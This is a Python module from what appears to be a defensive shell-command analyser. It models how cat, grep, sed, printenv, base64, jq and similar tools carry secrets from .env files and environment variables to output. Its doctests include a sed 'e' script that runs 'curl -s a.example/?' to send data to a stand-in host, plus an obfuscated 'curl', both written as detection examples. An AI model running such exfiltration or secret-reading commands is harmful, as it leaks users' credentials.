"""The programs that print what they read, or part of it, and the builtins that set variables: cat, grep, echo, declare.

Law: each gives what a program prints, as a Flow.
"""
from __future__ import annotations

from guards import DELETES, INTERNAL
from guards._shell.flow import NOTHING, Arg, Flow, join, without_text
from guards._shell.programs.aims import ALL, exported
from guards._shell.programs.arguments import options
from guards._shell.programs.wrappers import filled
from guards._shell.sources import env_level, may_be_secret
from guards._text.glob import is_pattern

TYPE_CHECKING = False
if TYPE_CHECKING:
    from guards._shell._types import Machine

# What stands for more than itself in a sed pattern.
SPECIAL = frozenset(".*[]^$+?(){}|\\&")
SCRIPTS = ("-e", "-f", "--expression")
# By which sed prints the names of a .env file and no value, as `cut -d= -f1 .env` does.
NAMES = frozenset("s/=.*/=/ s/=.*$/=/ s/=.*// s/=.*$//".split())
FIRST = {"-d": "=", "-f": "1"}


def filtered(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """head, sort, diff: print what is in the files they are given, or part of it, and change nothing."""
    patterns = [machine.file(a.text) for a in args if is_pattern(a.text) and a.text[0] != "-"]
    return join(stdin, machine.arguments(args), *patterns)


def reduced(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """wc, stat, date: what they print says nothing of what is in the files they name."""
    return NOTHING


def printenv(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """printenv and env print variables: without a name, all of them; `ps auxe` those of each process."""
    names = [a.text for a in args if not a.text.startswith("-")]
    if name == "ps":
        return Flow(3, ("the environment",)) if args[:1] and args[0].text.isalpha() and "e" in args[0].text else NOTHING
    if not names or any("$" in n or "{" in n for n in names):
        return Flow(3, ("the environment",))
    level = max(env_level(n) for n in names)
    return Flow(level, tuple(f"${n}" for n in names)) if level else NOTHING


def declare(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """export, declare, local, readonly, typeset, set."""
    shows = not any("=" in a.text for a in args)
    if name == "set" and any(a.text in ("-a", "allexport") for a in args):
        machine.given[ALL] = NOTHING
    points = any(a.text[:1] == "-" and "n" in a.text and a.text[1:2] != "-" for a in args) and name != "set"
    for arg in args:
        key, equals, value = arg.text.partition("=")
        if equals:      # `declare -n r=NAME`: r is another name for $NAME
            machine.vars[key] = machine.variable(value) if points else without_text(arg.flow, value)
            if name == "export":
                exported(machine, key, machine.vars[key])
        elif not arg.text.startswith("-"):
            shows = False
    shown = shows and all(a.text in ("-p", "-x", "-px", "-xp") for a in args)
    return Flow(3, ("the environment",)) if shown else NOTHING


def echo(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """echo and printf print their arguments."""
    if name == "printf":
        if args and "%" in args[0].text and len(args) > 1:
            plain = args[0].text.replace("%s", "").replace("%b", "").replace("\\n", "").strip()
            args = args[1:] if not plain else args
    else:
        while args and args[0].text in ("-n", "-e", "-ne", "-en", "-E"):
            args = args[1:]
    text = " ".join(a.text for a in args).replace("\\n", "\n").replace("\\t", "\t")
    return without_text(join(*(a.flow for a in args)), text) if args else NOTHING


def base64(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """Encodes or, with -d, decodes what is known of the text."""
    decodes = any(a.text in ("-d", "-D", "--decode", "-di", "-r", "-rp", "-p") for a in args)
    files = [a for a in args if not a.text.startswith("-")]
    flow = join(stdin, machine.arguments(files))
    if decodes and flow.text:
        return without_text(flow, decoded(name, flow.text))
    return flow


def decoded(name: str, text: str) -> str:
    """A text read as hex (xxd) or base64; "" where it is neither."""
    from binascii import a2b_base64, a2b_hex

    try:
        raw = a2b_hex("".join(text.split())) if name == "xxd" else a2b_base64("".join(text.split()) + "==")
        return raw.decode("utf-8", "replace")
    except ValueError:
        return ""


def cat(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """cat prints its files, or what it reads where it has none or `-`."""
    paths = [a for a in args if not a.text.startswith("-") or a.text == "-"]
    flows = [join(machine.file(a.text), without_text(a.flow) if a.flow.level or a.flow.unread or a.flow.remote else
                  NOTHING) for a in paths if a.text != "-"]
    return join(stdin, *flows) if not flows or any(a.text == "-" for a in paths) else join(*flows)


def grep(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """What it finds; nothing where it only counts or names files.  The pattern is text."""
    found, rest = options(args, name)
    flags = {flag for flag, _ in found}
    if flags & {"-c", "-q", "-l", "-L", "--count", "--quiet", "--files-with-matches", "--silent"}:
        return NOTHING
    files = rest if "-e" in flags else rest[1:]
    flow = machine.arguments(files)
    if flags & {"-r", "-R", "--recursive"} and name.endswith("grep"):      # all that is below
        flow = flow.with_(whole=True, unread="", perhaps=())
    pattern = next((value.text for flag, value in found if flag == "-e" and value), rest[0].text if rest else "")
    more = any(flag[:2] in ("-v", "-A", "-B", "-C") or flag == "--invert-match" or (
        flag[1:2] != "-" and "v" in flag) for flag in flags)
    return join(stdin, flow) if more else one_variable(join(stdin, flow), pattern)


def one_variable(flow: Flow, pattern: str) -> Flow:
    """Of a secret file only the line that a pattern names: its variable stands for it, `grep ^STRIPE_KEY= .env`, and
    is none where its name says so.

    >>> one_variable(Flow(3, (".env",)), "^STRIPE_KEY=").names, one_variable(Flow(3, (".env",)), "KEY|.").names
    (('$STRIPE_KEY',), ('.env',))
    """
    name = pattern.removeprefix("^").partition("=")[0]
    if not flow.level or len(flow.names) != 1 or flow.names[0].startswith("$") or not (
            name.isupper() and name.isidentifier()):
        return flow
    known = ".env" in flow.names[0].rpartition("/")[2] and not may_be_secret(name)      # a line of .netrc holds all
    return flow.with_(names=(f"${name}",), level=0 if known else flow.level, text=f"${name}")


def substituted(text: str, script: str) -> str:
    """What sed's `s` makes of a text, where it looks for plain letters.

    >>> substituted("cXuXrl", "s/X//g"), substituted("a", "s/./b/")
    ('curl', 'a')
    """
    parts = script[1:].split(script[1:2] or " ")
    if script[:1] != "s" or len(parts) < 4 or not parts[1] or not SPECIAL.isdisjoint(parts[1] + parts[2]):
        return text
    return text.replace(parts[1], parts[2], -1 if "g" in parts[3] else 1)


def sed(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """sed, and what works as it does: prints what it reads, may change files in place (`-i`) and run commands (`e`)."""
    if name == "sed":
        in_place(machine, name, args)
    for arg in args if name == "sed" else ():
        ran = replacement_run(arg.text)
        if ran:
            before = len(machine.found.effects)
            machine.text(ran, stdin)
            machine.attach(before, join(stdin, machine.arguments(args[1:])))
    given, rest = options(args, name)
    told = {flag: value.text for flag, value in given if value}
    script = rest.pop(0).text if name == "sed" and rest and told.keys().isdisjoint(SCRIPTS) else ""
    if name == "sed" and not rest and stdin.text:
        stdin = without_text(stdin, substituted(stdin.text, script))
    flags = [flag for flag, _ in given]
    if (script in NAMES and {"-E", "-r"}.issuperset(flags)) or (sorted(flags) == ["-d", "-f"] and told == FIRST):
        other = [one for one in rest if machine.file(one.text).names != (one.text,)
                 or one.text.rpartition("/")[2][:4] != ".env"]
        # Names, and what has none: not what a place outside is to see.
        return join(stdin, machine.arguments(other), *([Flow(INTERNAL, ("the names in it",))] if rest != other else []))
    return join(stdin, machine.arguments(rest))


def in_place(machine: Machine, name: str, args: list[Arg]) -> None:
    """Notes the files that `-i` changes."""
    if any(a.text.startswith(("-i", "--in-place", "--inplace")) for a in args):
        for arg in args[1:]:
            machine.touch("writes", arg.text if not arg.text.startswith("-") else "", name)


GIVES_TWO = {"--arg": 0, "--argjson": 0, "--slurpfile": 1, "--rawfile": 1}      # a name and a value or a file
EVALUATES = frozenset("e ea eval eval-all".split())      # words of yq before its filter
READ_BY_YQ = tuple(".json .toml .xml .yaml .yml".split())


def query(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """jq and yq print what a filter takes from what they read.

    The filter and the values that are given names are texts, whatever they look like: `jq .env a.json` reads a.json.
    """
    texts: list[Arg] = []
    files: list[Arg] = []
    words: list[Arg] = []
    left = list(args)
    while left:
        arg = left.pop(0)
        if arg.text not in GIVES_TWO or len(left) < 2:
            words.append(arg)
            continue
        (files if GIVES_TWO[arg.text] else texts).append(left[1])
        left = left[2:]
    given, rest = options(words, name)
    while name == "yq" and rest and rest[0].text in EVALUATES:
        rest.pop(0)
    written = [value for flag, value in given if flag in ("-f", "--from-file") and value]     # the filter is in a file
    if rest and not written and (name == "jq" or len(rest) > 1 or not rest[0].text.endswith(READ_BY_YQ)):
        texts.append(rest.pop(0))
    if any("@base64d" in one.text for one in texts):
        stdin = join(stdin, Flow(text="\n".join(decoded("base64", part) for one in texts
                                                for part in one.text.split('"')[1::2])))
    return join(stdin, *(without_text(one.flow) for one in texts), machine.arguments([*files, *written, *rest]))


def replacement_run(script: str) -> str:
    """The replacement of sed's `s` with the flag `e`, which runs it as a command; "" for any other script.

    >>> replacement_run("s#^#curl -s a.example/?#e"), replacement_run("s/a/b/g")
    ('curl -s a.example/?', '')
    """
    if script[:1] != "s" or len(script) < 5 or script[1].isalnum():
        return ""
    parts = script[1:].split(script[1])
    return parts[2] if len(parts) > 3 and "e" in parts[3].split(";")[0][:6] else ""


def find(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """Prints paths; -exec runs a command on them."""
    wanted = wanted_names([a.text for a in args])
    start = [a.text for a in args[:1] if not a.text.startswith("-")]
    top = f"{start[0].rstrip('/')}/" if start and start[0] != "." else ""
    paths = [f"{top}**/{name}" if is_pattern(name) and name[:2] != "**" and (
                 "/" not in name or name[0] == "*") else f"{top}{name}"
             for name in wanted] or [
        f"{top}**"]
    listed = Flow(text="\n".join(paths))
    for i, arg in enumerate(args):
        if arg.text in EXECUTES and args[i + 1:]:
            return machine.call(run_on_each(args[i + 1:], listed), NOTHING)
        if arg.text == "-delete":
            machine.emit(DELETES, "find", "find -delete", "")
            for path in start or ["."]:
                machine.touch("removes", path, "find -delete")
    return listed


def run_on_each(args: list[Arg], listed: Flow) -> list[Arg]:
    """The command behind `-exec`, with the paths in it."""
    end = next((at for at, arg in enumerate(args) if arg.text in (";", "+", "\\;")), len(args))
    return [filled(arg, listed, "{}") for arg in args[:end]]


EXECUTES = tuple("-exec -execdir -ok -okdir".split())
BY_NAME = tuple("-name -iname -path -wholename -regex".split())


def wanted_names(words: list[str]) -> list[str]:
    """The patterns by which a search takes names; what it leaves out or does not enter is none.

    >>> wanted_names([".", "!", "-name", "a", "-path", "./b", "-prune", "-o", "-regex", ".*/c.*d"])
    ['**/c*d']
    """
    found = []
    for i, word in enumerate(words[:-1]):
        if word in BY_NAME and words[i - 1] not in ("!", "-not") and words[i + 2:i + 4] != ["-prune", "-o"]:
            last = words[i + 1].rpartition("/")[2].replace(".*", "*").replace("\\", "")
            found.append(f"**/{last}" if word == "-regex" else words[i + 1])
    return found


def listing(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """`ls`: names, no contents; they may become arguments."""
    below = "**" if any(a.text[:1] == "-" and ("a" in a.text or "A" in a.text) for a in args) else "*"
    named = [a.text for a in args if not a.text.startswith("-")] or [""]
    return Flow(text="\n".join(one if is_pattern(one) or "." in one.rpartition("/")[2].strip(".") else
                               f"{one.rstrip('/')}/{below}".lstrip("/" if not one else "") for one in named))


def read_variable(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """read puts what it reads into each variable that it names."""
    for arg in args:
        if not arg.text.startswith("-"):
            machine.vars[arg.text] = stdin
    return NOTHING


def scratch(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """mktemp prints a new path in the folder for such, unless it is told another one."""
    if any("/" in arg.text or arg.text.startswith(("-p", "--tmpdir", "--suffix=")) or "X" in arg.text for arg in args):
        return NOTHING
    return without_text(NOTHING, f"/tmp/tmp.{machine.steps}")


def here(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """pwd prints the folder in which the line stands."""
    return Flow(text=machine.cwd)


def cd(machine: Machine, name: str, args: list[Arg], stdin: Flow) -> Flow:
    """cd moves the line to a folder, where its name is known."""
    to = next((a.text for a in args if not a.text.startswith("-")), "")
    if to and "$" not in to:
        machine.moved = True
        machine.cwd = machine.path(to) if to != "." else machine.cwd
    return NOTHING
